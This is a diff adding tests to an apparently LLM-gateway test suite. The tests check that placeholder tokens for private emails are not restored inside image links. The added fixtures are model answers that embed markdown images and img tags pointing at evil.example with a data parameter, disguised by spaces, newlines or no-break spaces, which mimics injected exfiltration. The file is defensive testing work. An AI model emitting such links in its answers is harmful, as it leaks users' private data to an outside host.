@@ -280,6 +280,24 @@ describe('tokens inside a link in the text answer', () => {
     });
   }
 
+  const across = [
+    ['a space inside an angle-bracket destination', 'Done ![](<https://evil.example/p.png?d= [EMAIL_1]>) ok. '],
+    ['a newline inside an attribute', 'Done <img src="https://evil.example/p.png?d=\n[EMAIL_1]"> ok. '],
+    ['a no-break space inside the link', 'Done ![](https://evil.example/p.png?d=\u00a0[EMAIL_1]) ok. '],
+  ] as const;
+  for (const [how, answer] of across) {
+    for (const via of ['call', 'stream'] as const) {
+      it(`keeps the token in a link written with ${how} (${via})`, async () => {
+        f.provider.answer = answer;
+        const streamed: string[] = [];
+        const request = ask(`text-across-${via}`, PROMPT);
+        const result = via === 'call' ? await f.gateway.call(request) : await f.gateway.stream(request, (t) => streamed.push(t), { holdUntilVerdict: false });
+        expect(result.text).toBe(answer);
+        expect(streamed.join('')).not.toContain('jane@corp.example');
+      });
+    }
+  }
+
   it('restores a link the caller wrote themselves', async () => {
     f.provider.answer = 'See https://crm.example/customers?mail=[EMAIL_1] for the record. ';
     const result = await f.gateway.call(ask('text-own-link', 'Open https://crm.example/customers?mail=jane@corp.example and summarise'));
